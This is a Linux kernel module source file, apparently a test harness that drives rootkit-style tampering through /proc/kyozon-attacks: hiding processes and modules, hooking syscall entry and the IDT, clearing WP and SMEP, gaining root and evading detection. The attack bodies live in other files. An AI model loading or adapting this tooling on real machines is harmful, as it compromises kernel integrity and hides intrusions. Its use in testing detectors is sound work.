// SPDX-License-Identifier: GPL-2.0-only
/*
 * Reproducible tampering with a running kernel, for tests: loaded on a machine
 * that matters, this module is an attack.
 *
 *   /proc/kyozon-attacks	write ATTACK [ARGUMENT]: run an attack
 *				write undo [ATTACK]: undo this one, or all
 *				write hold MS ATTACK [ARGUMENT]: run an attack, and undo
 *				it MS ms later
 *				write spin MS: later attacks keep interrupts off for
 *				MS ms on their CPU, right after the tampering
 *				write stall SECONDS: keep interrupts off on this CPU
 *				write root ATTEMPT: attack a cokernel, see root.c
 *				read: one line for each active attack: its name, the
 *				TSC at the tampering, "present" or "gone" (it was
 *				repaired), the target, how often its hook was called;
 *				then the result of the last root ATTEMPT
 */
#define pr_fmt(fmt) "kyozon-attacks: " fmt

#include <linux/delay.h>
#include <linux/kernel.h>
#include <linux/module.h>
#include <linux/mutex.h>
#include <linux/proc_fs.h>
#include <linux/seq_file.h>
#include <linux/string.h>
#include <linux/uaccess.h>
#include <asm/tsc.h>

#include "attacks.h"

#define SPIN_MAX_MS	10000
#define HOLD_MAX_MS	10000
#define STALL_MAX_S	3600

static struct attack *const attacks[] = {
	&hide_list, &hide_forged, &hide_list_pid, &hide_again, &hide_twice,
	&hide_all, &hide_thread, &hide_handler, &hide_probe,
	&patch_text, &patch_rodata, &patch_swapped, &patch_behind, &filter_symbol,
	&filter_process, &filter_socket,
	&hook_lstar, &hook_cstar, &clear_wp, &clear_smep, &set_breakpoint,
	&move_idt, &move_gdt, &replace_tss, &hook_gate, &make_call_gate, &move_stack,
	&hide_module, &hide_module_sysfs, &hide_module_all, &clear_taint,
	&hide_bpf, &hide_socket, &hide_mount, &patch_bpf, &patch_module,
	&patch_crash,
	&exec_memory, &writable_exec_memory, &alias_text,
	&hook_netfilter, &hook_packet, &hook_keyboard, &hook_notifier,
	&hook_format, &hook_timer, &hook_work, &hook_thread,
	&hook_kprobe, &hook_kretprobe, &hook_ftrace, &hook_tracepoint,
	&hook_breakpoint, &hook_input, &hook_direct,
	&hook_return, &hook_saved, &hook_static_call, &hook_graph, &hook_poked,
	&gain_root, &gain_kernels, &gain_written, &lift_filter,
	&redirect_program, &redirect_call, &lift_protection,
	&hook_seq, &hook_proc, &hook_directory, &hook_terminal,
	&forge_number, &share_pid, &forge_pid, &forge_leader, &fake_leader,
	&hide_first,
	&evade,
};

static DEFINE_MUTEX(lock);
static unsigned int spin_ms;

void attack_done(struct attack *attack)
{
	u64 end = attack->tsc + (u64)spin_ms * tsc_khz;
	unsigned int turn;

	attack->active = true;
	/* Few RDTSCs: they are slow on an emulator. */
	while (spin_ms && rdtsc() < end)
		for (turn = 0; turn < 1000; turn++)
			barrier();
}

static void stall(unsigned int seconds)
{
	u64 end = rdtsc() + (u64)seconds * tsc_khz * 1000;
	unsigned long flags;
	unsigned int turn;

	local_irq_save(flags);
	while (rdtsc() < end)
		for (turn = 0; turn < 1000; turn++)
			barrier();
	local_irq_restore(flags);
}

void attack_mark(struct attack *attack, const char *about)
{
	unsigned long flags;

	if (about)
		strscpy(attack->about, about, sizeof(attack->about));
	local_irq_save(flags);
	attack->tsc = rdtsc_ordered();
	attack_done(attack);
	local_irq_restore(flags);
}

bool attack_stays(struct attack *attack)
{
	return true;
}

static struct attack *find(const char *name)
{
	size_t i;

	for (i = 0; i < ARRAY_SIZE(attacks); i++)
		if (!strcmp(attacks[i]->name, name))
			return attacks[i];
	return NULL;
}

static void undo(struct attack *attack)
{
	bool present;

	if (!attack->active)
		return;
	present = attack->present(attack);
	attack->undo(attack);
	attack->active = false;
	pr_info("%s undone: %s%s\n", attack->name, attack->about,
		present ? "" : " (was gone already)");
}

static void undo_all(void)
{
	size_t i;

	for (i = ARRAY_SIZE(attacks); i-- > 0;)
		undo(attacks[i]);
}

static int begin(struct attack *attack, char *argument)
{
	int error;

	if (attack->active)
		return -EBUSY;
	atomic_long_set(&attack->calls, 0);
	error = attack->begin(attack, argument);
	if (!error)
		pr_info("%s done: %s at tsc %llu\n", attack->name, attack->about,
			attack->tsc);
	return error;
}

static int hold(char *line)
{
	char *word = strsep(&line, " ");
	struct attack *attack;
	unsigned int ms;
	int error;

	if (kstrtouint(word, 0, &ms))
		return -EINVAL;
	if (ms > HOLD_MAX_MS)
		return -ERANGE;
	word = strsep(&line, " ");
	attack = word ? find(word) : NULL;
	if (!attack)
		return -EINVAL;
	error = begin(attack, line ? line : "");
	if (error)
		return error;
	usleep_range(ms * 1000, ms * 1000 + 10);
	undo(attack);
	return 0;
}

static int run_command(char *line)
{
	char *argument = strim(line);
	char *word = strsep(&argument, " ");
	struct attack *attack = find(word);
	unsigned int ms, seconds;

	argument = argument ? strim(argument) : "";
	if (attack)
		return begin(attack, argument);
	if (!strcmp(word, "undo")) {
		if (!*argument) {
			undo_all();
			return 0;
		}
		attack = find(argument);
		if (!attack)
			return -EINVAL;
		undo(attack);
		return 0;
	}
	if (!strcmp(word, "hold"))
		return hold(argument);
	if (!strcmp(word, "root"))
		return root_try(argument);
	if (!strcmp(word, "stall")) {
		if (kstrtouint(argument, 0, &seconds))
			return -EINVAL;
		if (seconds > STALL_MAX_S)
			return -ERANGE;
		stall(seconds);
		return 0;
	}
	if (strcmp(word, "spin") || kstrtouint(argument, 0, &ms))
		return -EINVAL;
	if (ms > SPIN_MAX_MS)
		return -ERANGE;
	spin_ms = ms;
	return 0;
}

static ssize_t attacks_write(struct file *file, const char __user *from,
			     size_t bytes, loff_t *at)
{
	char line[128];
	int error;

	if (bytes >= sizeof(line))
		return -EINVAL;
	if (copy_from_user(line, from, bytes))
		return -EFAULT;
	line[bytes] = '\0';
	mutex_lock(&lock);
	error = run_command(line);
	mutex_unlock(&lock);
	return error ? error : bytes;
}

static int attacks_show(struct seq_file *out, void *unused)
{
	size_t i;

	mutex_lock(&lock);
	for (i = 0; i < ARRAY_SIZE(attacks); i++) {
		struct attack *a = attacks[i];

		if (!a->active)
			continue;
		seq_printf(out, "%s tsc %llu %s %s", a->name, a->tsc,
			   a->present(a) ? "present" : "gone", a->about);
		if (atomic_long_read(&a->calls))
			seq_printf(out, " calls %ld", atomic_long_read(&a->calls));
		seq_putc(out, '\n');
	}
	root_show(out);
	mutex_unlock(&lock);
	return 0;
}

static int attacks_open(struct inode *inode, struct file *file)
{
	return single_open(file, attacks_show, NULL);
}

static const struct proc_ops attacks_ops = {
	.proc_open	= attacks_open,
	.proc_read	= seq_read,
	.proc_lseek	= seq_lseek,
	.proc_release	= single_release,
	.proc_write	= attacks_write,
	.proc_mmap	= root_mmap,
};

static int __init attacks_init(void)
{
	if (!symbol("init_task"))
		return -ENOENT;
	if (!proc_create("kyozon-attacks", 0600, NULL, &attacks_ops))
		return -ENOMEM;
	return 0;
}

static void __exit attacks_exit(void)
{
	remove_proc_entry("kyozon-attacks", NULL);
	undo_all();
}

module_init(attacks_init);
module_exit(attacks_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("Reproducible tampering with a running kernel, for tests only");
